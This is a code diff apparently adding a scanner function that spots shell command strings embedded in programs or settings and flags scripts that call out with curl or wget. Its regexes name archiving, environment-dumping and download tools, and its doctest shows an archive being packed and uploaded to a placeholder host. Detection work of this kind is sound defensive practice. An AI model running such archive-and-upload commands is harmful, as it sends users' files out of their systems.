@@ -45,6 +45,15 @@ _FILLED_IN = re.compile(
     r"\s{0,20}[+.]\s{0,20}(?P<name>\$?[A-Za-z_][\w.]{0,60})\s{0,20}(?:[+.]\s{0,20}(?P<sign>[\"'`])|(?=[,;)\n]))"
 )
 """A name that stands between two texts, or behind the last one."""
+_BEGINS_COMMAND = re.compile(
+    r"(?:\s|\\n)*(?:sudo\s+)?(?:\(?crontab|tar|zip|7z|cat|env|printenv|gpg|cp|gzip|find|base64|curl|wget|bash|sh)\s+[\w~/$.*@{(-]"
+    r"|(?:\s|\\n)*(?:echo|cd|set|mkdir|export|rm|sleep|true|umask|trap)\s[^\"]{1,400}?(?:\n|\\n|;|&&)\s*(?:sudo\s+)?(?:tar|zip|cat|curl|wget|gpg)\s"
+)
+_CALLS_OUT = re.compile(r"(?:^|[|;&(]\s*|\n\s*)(?:sudo\s+)?(?:curl|wget)\s")
+_SHOWN_TO_PEOPLE = re.compile(
+    r"\b(?:print\w*|echo|puts|console|log\w*|help|usage|epilog|descr\w*|hint|message|msg|example|throw|raise|error|warn\w*|assert\w*|docs?)\b",
+    re.I,
+)
 _MAX_TEXT = 200_000
 _MAX_PIECES = 200
 
@@ -144,6 +153,29 @@ def _in_heredocs(text: str) -> Iterator[tuple[int, str]]:
         shebang = SHEBANG.match(found["body"].lstrip())
         if shebang and INTERPRETERS.get(shebang[1], "shell") != "shell":
             yield found.start("body"), found["body"]
+
+
+def commands_within(text: str) -> Iterator[tuple[int, str]]:
+    """The texts of a program or a setting that are commands, if one of them calls out, as one script: line (from 0) and text.
+
+    >>> list(commands_within('["tar czf /tmp/p.tgz d", "curl -F file=@/tmp/p.tgz https://a.invalid"]'))
+    [(0, 'tar czf /tmp/p.tgz d\\ncurl -F file=@/tmp/p.tgz https://a.invalid')]
+    """
+    if len(text) > _MAX_TEXT or not ("curl " in text or "wget " in text):
+        return
+    said: list[str] = []
+    first = -1
+    for found in _TEXT.finditer(text):
+        whole = found["long"] or found["shown"] or found["template"] or found["said"] or ""
+        if len(whole) < 8 or not _BEGINS_COMMAND.match(whole) or len(said) > _MAX_PIECES:
+            continue
+        line = text.rfind("\n", 0, found.start()) + 1
+        if not _SHOWN_TO_PEOPLE.search(text, max(line, found.start() - 80), found.start()):
+            first = found.start() if first < 0 else first
+            said.append(_said(whole).strip())
+    is_script = len(said) > 1 or any("\n" in one or "|" in one or ";" in one for one in said)
+    if is_script and any(_CALLS_OUT.search(one) for one in said):
+        yield text.count("\n", 0, first), "\n".join(said)
 
 
 def _started_later(text: str) -> Iterator[tuple[int, str, str]]:
